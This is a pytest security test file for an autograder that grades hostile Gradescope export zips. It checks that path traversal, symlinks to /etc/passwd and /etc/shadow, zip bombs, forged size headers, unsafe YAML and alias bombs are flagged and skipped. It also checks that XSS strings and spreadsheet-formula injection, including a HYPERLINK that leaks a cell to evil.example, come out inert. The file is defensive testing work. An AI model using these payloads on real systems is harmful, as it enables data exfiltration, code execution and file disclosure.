"""Hostile Gradescope exports graded by the real `batch` command: what lands where, and what a TA opens.

Expected everywhere: the batch finishes, writes only inside --out, flags what
was bad in summary.md and skips it, and its CSV and Markdown cells are inert.
"""

import csv
import json
import os
import shutil
import stat
import subprocess
import sys
import zipfile

import pytest

from autograder.engine.commands.report import csv_text, md_cell
from autograder.engine.commands.exports import WHOLE_EXPORT, discover_export, load_metadata, safe_id

from .helpers import solution_files

EXPORT = "assignment_export"
HTML = '<script>alert(1)</script> <img src=x onerror=alert(1)> [click](javascript:alert(1)) a|b'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


def stubs(homework) -> dict:
    return {n: (homework.handout / n).read_text() for n in homework.files}


def raising(homework, message: str) -> dict:
    """The stubs, with a forward whose exception message the class report will quote."""
    files = stubs(homework)
    files["network.py"] += f"\n\ndef _forward(self, y0, t):\n    raise ValueError({message!r})\n\nNetwork.forward = _forward\n"
    return files


def person(name, email="s@example.edu", sid="1") -> list:
    """Gradescope's submitters entry; JSON strings are YAML double-quoted scalars."""
    return ["  :submitters:", f"  - :name: {json.dumps(name)}", f"    :email: {json.dumps(email)}",
            f"    :sid: {json.dumps(sid)}"]


def write_export(path, folders: dict, metadata_lines=None, extra=()) -> None:
    """A zip like Gradescope's: EXPORT/<folder>/<files> and EXPORT/submission_metadata.yml.

    `extra` adds raw members: (ZipInfo or name, bytes).
    """
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for folder, files in folders.items():
            for name, text in files.items():
                archive.writestr(f"{EXPORT}/{folder}/{name}", text)
        if metadata_lines is not None:
            archive.writestr(f"{EXPORT}/submission_metadata.yml", "\n".join(metadata_lines) + "\n")
        for info, data in extra:
            archive.writestr(info, data)


def symlink_member(name: str, target: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


def batch(export, out, *flags, env=None):
    done = subprocess.run([sys.executable, "-m", "autograder", "batch", str(export), "--out", str(out),
                           "--jobs", "2", *flags], capture_output=True, text=True, timeout=600,
                          env=dict(os.environ, **(env or {})))
    assert done.returncode == 0, done.stderr[-3000:]
    return done


def rows(path) -> list:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def files_under(folder) -> set:
    return {p for p in folder.rglob("*")}


def flagged(summary: str) -> str:
    assert "## Flagged" in summary, summary[:2000]
    return summary.split("## Flagged", 1)[1].split("\n## ", 1)[0]


# -- one export with everything at once, through `batch --similarity` -------------------

@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory, homework):
    root = tmp_path_factory.mktemp("hostile-class")
    export = root / "export.zip"
    folders = {
        "submission_1": solution_files(homework),
        "submission_2": raising(homework, HTML + "\nsecond line"),
        "submission_bomb": stubs(homework),
        "submission_links": stubs(homework),
        "sub <img src=x onerror=alert(1)>": stubs(homework),
    }
    meta = ["submission_1:", *person(FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"),
            "submission_2:", *person(HTML, "\tx@example.edu", "+1234"),
            "submission_bomb:", *person("Bomb"),
            "submission_links:", *person("Links"),
            "sub <img src=x onerror=alert(1)>:", *person("Angle"),
            "../../escaped_results:", *person("Dots"),
            "/tmp/absolute_results:", *person("Absolute"),
            "never_uploaded:", *person("Missing")]
    extra = [
        (f"{EXPORT}/submission_bomb/zeros.bin", bytes(3 * 2**20)),  # 3 MiB of zeros: ~3 KiB zipped
        (symlink_member(f"{EXPORT}/submission_links/network.py.link", "/etc/passwd"), b"/etc/passwd"),
        (f"{EXPORT}/submission_links/../../../escaped.txt", b"outside"),
        ("/tmp/absolute_member.txt", b"outside"),
    ]
    write_export(export, folders, meta, extra)
    out = root / "out"
    done = batch(export, out, "--similarity", "--similarity-threshold", "0",
                 env={"AUTOGRADER_EXPORT_MAX_MEMBER_MB": "1"})
    return root, out, done


def test_results_land_only_inside_out(hostile_class):
    root, out, _ = hostile_class
    assert {p.name for p in root.iterdir()} == {"export.zip", "out"}
    assert not (root.parent / "escaped.txt").exists() and not (root.parent / "escaped_results.json").exists()
    assert not os.path.exists("/tmp/absolute_results.json") and not os.path.exists("/tmp/absolute_member.txt")
    for path in files_under(out):
        assert path.resolve().is_relative_to(out.resolve()) and not path.is_symlink(), path
    names = sorted(p.name for p in (out / "results").iterdir())
    assert names == ["sub__img_src_x_onerror_alert_1__.json", "submission_1.json", "submission_2.json"]


def test_bad_members_and_folders_are_flagged_and_skipped(hostile_class):
    _, out, done = hostile_class
    section = flagged((out / "summary.md").read_text())
    lines = {line.split(" | ")[0].strip("| "): line for line in section.splitlines() if line.startswith("| ")}
    def why(raw_id):
        return lines[md_cell(safe_id(raw_id, set()))]
    assert "over the 1,048,576 allowed" in why("submission_bomb")
    assert "symbolic link" in why("submission_links") and "leaves the export" in why("submission_links")
    assert "outside the export" in why("../../escaped_results")
    assert "outside the export" in why("/tmp/absolute_results")
    assert "not in the export" in why("never_uploaded")
    assert "absolute\\_member.txt" in lines[md_cell(WHOLE_EXPORT)]
    table = rows(out / "grades.csv")
    assert sorted(r["id"] for r in table) == ["sub__img_src_x_onerror_alert_1__", "submission_1", "submission_2"]
    assert "flagged submission_bomb" in done.stderr


def test_csv_text_cells_are_neutralised_and_scores_stay_numbers(hostile_class):
    _, out, _ = hostile_class
    by_id = {r["id"]: r for r in rows(out / "grades.csv")}
    first, second = by_id["submission_1"], by_id["submission_2"]
    assert first["names"] == "'" + FORMULA and first["emails"].startswith("'@") and first["sids"] == "'-2+3"
    assert second["emails"] == "'\tx@example.edu" and second["sids"] == "'+1234"
    for row in by_id.values():
        float(row["total"])  # a number, never quoted
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row
    assert float(first["total"]) == 100 and float(second["total"]) == 0


def test_summary_has_no_live_html_links_or_broken_tables(hostile_class):
    _, out, _ = hostile_class
    summary = (out / "summary.md").read_text()
    assert "alert" in summary  # the text is there, shown as text
    for live in ("<script", "<img", "](javascript", "onerror=alert(1)>"):
        assert live not in summary, live
    blocks, block = [], []
    for line in summary.splitlines() + [""]:
        if line.startswith("|"):
            block.append(line)
        elif block:
            blocks, block = blocks + [block], []
    assert len(blocks) >= 4
    for block in blocks:  # every row keeps its header's number of cells (pipes escaped)
        cells = {line.replace("\\|", "").count("|") for line in block}
        assert cells == {block[1].count("|")}, block
    assert "Similar submissions" in summary and "Angle" in summary


# -- hostile metadata files ------------------------------------------------------------

@pytest.mark.parametrize("yaml_text, reason", [
    ("submission_1: !!python/object/apply:os.system ['touch /tmp/pwned_by_yaml']\n", "not plain YAML"),
    ("a: &a ['lol','lol','lol','lol','lol','lol','lol','lol','lol']\n"
     "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
     "submission_1:\n  :submitters:\n  - :name: *c\n", "aliases"),
])
def test_hostile_metadata_is_flagged_and_the_class_graded_without_names(yaml_text, reason, tmp_path, homework):
    export = tmp_path / "export.zip"
    with zipfile.ZipFile(export, "w") as archive:
        for folder in ("submission_1", "submission_2"):
            for name, text in stubs(homework).items():
                archive.writestr(f"{EXPORT}/{folder}/{name}", text)
        archive.writestr(f"{EXPORT}/submission_metadata.yml", yaml_text)
    out = tmp_path / "out"
    batch(export, out)
    assert not os.path.exists("/tmp/pwned_by_yaml")
    table = rows(out / "grades.csv")
    assert sorted(r["id"] for r in table) == ["submission_1", "submission_2"]
    assert all(r["names"] == "" for r in table)
    section = flagged((out / "summary.md").read_text())
    assert reason in section and "graded without names" in section


# -- the pieces, directly --------------------------------------------------------------

def test_metadata_over_its_size_cap_is_refused(tmp_path, monkeypatch):
    from autograder.engine.commands import exports as submissions
    monkeypatch.setattr(submissions, "MAX_METADATA_BYTES", 100)
    path = tmp_path / "submission_metadata.yml"
    path.write_text("x: " + "y" * 200)
    with pytest.raises(ValueError, match="over the 100 allowed"):
        load_metadata(path)


def test_safe_ids_are_plain_unique_file_names():
    taken: set = set()
    ids = [safe_id(raw, taken) for raw in ("../../x", "/etc/passwd", "a b", "a_b", "..", "", "ok-1.2")]
    assert ids == ["_.._x", "_etc_passwd", "a_b", "a_b-2", "submission", "submission-2", "ok-1.2"]
    assert all("/" not in i and not i.startswith(".") for i in ids)


def test_lying_headers_and_total_and_count_caps(tmp_path, monkeypatch):
    """A member whose header understates its size, the total cap, the member-count cap."""
    export = tmp_path / "export.zip"
    files = {"network.py": "x = 1\n", "attack.py": "y = 2\n"}
    write_export(export, {f"s{i}": files for i in range(4)}, extra=[(f"{EXPORT}/s0/data.bin", bytes(200_000))])
    raw = bytearray(export.read_bytes())
    name = f"{EXPORT}/s0/data.bin".encode()
    for signature, size_at, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        at = raw.find(signature)
        while at != -1:  # the uncompressed size in both the local and the central header: 1000
            if raw[at + name_at:at + name_at + len(name)] == name:
                raw[at + size_at:at + size_at + 4] = (1000).to_bytes(4, "little")
            at = raw.find(signature, at + 4)
    export.write_bytes(bytes(raw))
    submissions, flags = discover_export(export, tmp_path / "a")
    assert [s.id for s in submissions] == ["s1", "s2", "s3"]
    assert flags[0].id == "s0" and "data.bin" in flags[0].reason
    assert not (tmp_path / "a" / EXPORT / "s0" / "data.bin").exists()

    monkeypatch.setenv("AUTOGRADER_EXPORT_MAX_MEMBERS", "5")  # 4 folders x 2 files + data.bin
    submissions, flags = discover_export(export, tmp_path / "b")
    assert [s.id for s in submissions] == ["s1"]
    assert any("past the first 5 members" in f.reason for f in flags)

    monkeypatch.delenv("AUTOGRADER_EXPORT_MAX_MEMBERS")
    monkeypatch.setenv("AUTOGRADER_EXPORT_MAX_TOTAL_MB", str(30 / 2**20))  # 30 bytes: 5 small files fit
    submissions, flags = discover_export(export, tmp_path / "c")
    assert any("past 30 bytes unpacked" in f.reason for f in flags) and [s.id for s in submissions] == ["s1"]


def test_csv_and_markdown_helpers():
    assert csv_text("-0") == "'-0" and csv_text("Ada") == "Ada" and csv_text("\rx") == "'\rx"
    cell = md_cell("<b>x</b>|y\nz [a](javascript:b) https://evil.example")
    assert "<" not in cell and "\n" not in cell and "\\|" in cell and "](" not in cell and "https://" not in cell


def test_regrade_csv_text_cells_are_neutralised(hostile_class, tmp_path):
    """`diff OLD NEW` on the hostile class, after one test of submission_1 changed."""
    _, out, _ = hostile_class
    new = tmp_path / "new"
    shutil.copytree(out, new)
    path = new / "results" / "submission_1.json"
    raw = json.loads(path.read_text())
    raw["tests"][0]["score"], raw["tests"][0]["status"] = 0.0, "failed"
    raw["score"] -= raw["tests"][0]["max_score"]
    path.write_text(json.dumps(raw))
    done = subprocess.run([sys.executable, "-m", "autograder", "diff", str(out), str(new)],
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr[-2000:]
    (row,) = rows(new / "regrade.csv")
    assert row["submitters"] == "'" + FORMULA and float(row["old total"]) == 100 and float(row["new total"]) < 100


def test_flags_survive_shards_and_merge_once(tmp_path, homework):
    export = tmp_path / "export.zip"
    write_export(export, {"s1": stubs(homework), "s2": stubs(homework), "s3": stubs(homework)},
                 extra=[(symlink_member(f"{EXPORT}/s3/helper.py", "/etc/shadow"), b"/etc/shadow")])
    for k in (1, 2):
        batch(export, tmp_path / f"shard{k}", "--shard", f"{k}/2")
    done = subprocess.run([sys.executable, "-m", "autograder", "batch", "merge", str(tmp_path / "shard1"),
                           str(tmp_path / "shard2"), "--out", str(tmp_path / "all")],
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr[-2000:]
    section = flagged((tmp_path / "all" / "summary.md").read_text())
    assert section.count("symbolic link") == 1 and "| s3 |" in section
    assert sorted(r["id"] for r in rows(tmp_path / "all" / "grades.csv")) == ["s1", "s2"]
